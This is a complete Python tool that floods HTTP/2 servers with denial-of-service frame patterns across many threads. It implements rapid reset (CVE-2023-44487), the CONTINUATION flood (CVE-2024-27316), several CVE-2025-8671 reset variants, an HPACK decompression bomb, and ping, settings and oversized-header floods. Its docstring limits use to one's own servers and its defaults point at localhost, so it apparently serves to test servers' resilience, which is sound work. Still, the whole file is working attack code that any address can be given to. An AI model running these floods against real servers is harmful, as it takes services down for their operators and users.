#!/usr/bin/python3
"""Attacks on HTTP/2 servers, with python3-h2's own frames. For servers of one's own only.

Each worker opens a connection, attacks until the server cuts it or the budget is spent, and starts over until the
time is over. The last line of the output is `result key=value ...`:

connections  connections on which frames of the attack were sent
refused      connections that were not accepted or ended before the attack began
cut          connections the server ended during the attack
survived     connections on which the whole budget was spent
unfinished   connections that were neither cut nor done when the time was over
frames       frames of the attack sent in all
worst        most frames sent on one connection
resets       streams the server reset
answered     responses received
"""

import argparse
import collections
import random
import socket
import ssl
import threading
import time

import hpack
import hyperframe.frame as frame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# How long a worker waits for the server's word after its budget is spent.
PATIENCE_SECONDS = 2.0
# Frames sent between two looks at what the server says.
BATCH = 50


def flags(made, *names):
    for name in names:
        made.flags.add(name)
    return made


def window_update(stream, increment):
    """hyperframe refuses increments that the specification forbids; the attack needs them."""
    return b"\x00\x00\x04\x08\x00" + stream.to_bytes(4, "big") + increment.to_bytes(4, "big")


def length_of(value):
    """The length of a long string literal, in HPACK's integers with a prefix of 7 bits (RFC 7541 section 5.1)."""
    rest = len(value) - 127
    return bytes([0x7F, 0x80 | rest & 0x7F, rest >> 7])


def priority(stream, depends_on, length=5):
    payload = (depends_on.to_bytes(4, "big") + b"\x10" + bytes(8))[:length]
    return length.to_bytes(3, "big") + b"\x02\x00" + stream.to_bytes(4, "big") + payload


class Attacker:
    """One connection: makes frames. HPACK's dynamic table is not used, so that connections cost us nothing."""

    def __init__(self, host, port, path):
        fields = [(":scheme", "https"), (":authority", f"{host}:{port}"), (":path", path), ("accept", "*/*")]
        block = lambda method: [hpack.NeverIndexedHeaderTuple(*field) for field in [(":method", method), *fields]]
        self.get = hpack.Encoder().encode(block("GET"))
        self.post = hpack.Encoder().encode(block("POST"))
        self.stream = -1

    def open(self, block=None, end=True):
        self.stream += 2
        made = flags(frame.HeadersFrame(self.stream, block or self.get), "END_HEADERS")
        if end:
            made.flags.add("END_STREAM")
        return made.serialize()

    # Each attack yields the bytes of one frame or of frames that belong together.

    def rapid_reset(self):
        """CVE-2023-44487: open and reset at once."""
        while True:
            yield self.open()
            yield frame.RstStreamFrame(self.stream, error_code=8).serialize()

    def continuation(self):
        """CVE-2024-27316: a header block that never ends."""
        yield frame.HeadersFrame(1, self.get).serialize()
        number = 0
        while True:
            number += 1
            # Literal, not indexed, new name.
            name, value = b"x-%d" % number, b"y" * 1000
            literal = b"\x00" + bytes([len(name)]) + name + length_of(value) + value
            yield frame.ContinuationFrame(1, literal).serialize()

    def reset_window_zero(self):
        """CVE-2025-8671: WINDOW_UPDATE of nothing."""
        while True:
            yield self.open()
            yield window_update(self.stream, 0)

    def reset_window_overflow(self):
        """CVE-2025-8671: WINDOW_UPDATE past 2^31 - 1."""
        while True:
            yield self.open()
            yield window_update(self.stream, 0x7FFFFFFF)

    def reset_headers_closed(self):
        """CVE-2025-8671: HEADERS on a stream whose request has ended."""
        while True:
            yield self.open()
            yield flags(frame.HeadersFrame(self.stream, self.get), "END_HEADERS", "END_STREAM").serialize()

    def reset_data_closed(self):
        """CVE-2025-8671: DATA on a stream whose request has ended."""
        while True:
            yield self.open()
            yield frame.DataFrame(self.stream, b"x").serialize()

    def reset_priority_length(self):
        """CVE-2025-8671: PRIORITY of a wrong length."""
        while True:
            yield self.open()
            yield priority(self.stream, 0, length=4)

    def reset_priority_self(self):
        """CVE-2025-8671: PRIORITY that depends on itself."""
        while True:
            yield self.open()
            yield priority(self.stream, self.stream)

    def ping(self):
        while True:
            yield frame.PingFrame(0, random.randbytes(8)).serialize()

    def settings(self):
        while True:
            yield frame.SettingsFrame(0, {frame.SettingsFrame.INITIAL_WINDOW_SIZE: random.randrange(1 << 20)}).serialize()

    def empty_data(self):
        yield self.open(self.post, end=False)
        while True:
            yield frame.DataFrame(self.stream, b"").serialize()

    def window_update(self):
        while True:
            yield window_update(0, 1)

    def hpack_bomb(self):
        """One long field in the dynamic table, then that field a thousand times over in one byte each."""
        value = b"y" * 3900
        literal = b"\x40\x01x" + length_of(value) + value
        while True:
            yield self.open(self.get + literal + b"\xbe" * 4000)

    def many_headers(self):
        """100,000 fields in one request, in as many frames as they need."""
        while True:
            yield flags(frame.HeadersFrame(self.stream + 2, self.get), "END_STREAM").serialize()
            self.stream += 2
            for first in range(0, 100_000, 1000):
                fields = b"".join(b"\x00\x06x%05x\x01y" % number for number in range(first, first + 1000))
                yield frame.ContinuationFrame(self.stream, fields).serialize()
            yield flags(frame.ContinuationFrame(self.stream, b""), "END_HEADERS").serialize()


ATTACKS = sorted(name for name in vars(Attacker) if not name.startswith("_") and name != "open")


class Reader:
    """Counts what the server says."""

    def __init__(self):
        self.bytes = b""
        self.seen = collections.Counter()
        self.gone = False

    def feed(self, received):
        self.bytes += received
        while len(self.bytes) >= 9:
            length = int.from_bytes(self.bytes[:3], "big")
            if len(self.bytes) < 9 + length:
                return
            kind = self.bytes[3]
            if kind == frame.RstStreamFrame.type:
                self.seen["resets"] += 1
            elif kind == frame.HeadersFrame.type:
                self.seen["answered"] += 1
            elif kind == frame.GoAwayFrame.type:
                self.gone = True
            self.bytes = self.bytes[9 + length :]

    def look(self, stream, seconds):
        """Reads what is there; true once the server has ended the connection."""
        stream.settimeout(max(seconds, 0.0001))
        try:
            while not self.gone:
                received = stream.recv(65536)
                if not received:
                    self.gone = True
                    break
                self.feed(received)
                stream.settimeout(0.0001)
        except (TimeoutError, ssl.SSLWantReadError):
            pass
        except OSError:
            self.gone = True
        return self.gone


def connect(arguments):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    plain = socket.create_connection((arguments.address, arguments.port), timeout=5, source_address=(arguments.source, 0))
    stream = context.wrap_socket(plain, server_hostname=arguments.host)
    stream.sendall(PREFACE + frame.SettingsFrame(0, {}).serialize() + frame.SettingsFrame(0, flags=["ACK"]).serialize())
    return stream


def attack_once(arguments, until):
    """One connection. Returns what happened."""
    happened = collections.Counter()
    try:
        stream = connect(arguments)
    except OSError:
        happened["refused"] += 1
        # A refused attacker that spins would only measure itself.
        time.sleep(0.01)
        return happened, 0
    if time.monotonic() >= until:
        # The handshake took the rest of the time: nothing was attacked, so nothing has to be cut.
        stream.close()
        return happened, 0
    happened["connections"] += 1
    reader, sent, cut = Reader(), 0, False
    frames = getattr(Attacker(arguments.host, arguments.port, arguments.path), arguments.attack)()
    try:
        while sent < arguments.budget and not cut and (sent == 0 or time.monotonic() < until):
            stream.settimeout(5)
            stream.sendall(b"".join(next(frames) for _ in range(BATCH)))
            sent += BATCH
            cut = reader.look(stream, 0)
    except TimeoutError:
        # It neither reads nor hangs up: not cut.
        pass
    except OSError:
        cut = True
    if not cut:
        cut = reader.look(stream, PATIENCE_SECONDS)
    stream.close()
    happened["cut" if cut else "survived" if sent >= arguments.budget else "unfinished"] += 1
    happened["frames"] += sent
    happened.update(reader.seen)
    return happened, sent


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("--address", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--host", default="localhost")
    parser.add_argument("--path", default="/")
    parser.add_argument("--source", default="127.0.0.1", help="the address to attack from")
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--workers", type=int, default=8)
    parser.add_argument("--budget", type=int, default=20000, help="frames to send on one connection")
    arguments = parser.parse_args()

    until = time.monotonic() + arguments.seconds
    total, worst, lock = collections.Counter(), 0, threading.Lock()

    def work():
        nonlocal worst
        while time.monotonic() < until:
            happened, sent = attack_once(arguments, until)
            with lock:
                total.update(happened)
                worst = max(worst, sent)

    workers = [threading.Thread(target=work) for _ in range(arguments.workers)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    keys = ["connections", "refused", "cut", "survived", "unfinished", "frames", "resets", "answered"]
    print("result", *(f"{key}={total[key]}" for key in keys), f"worst={worst}")


main()
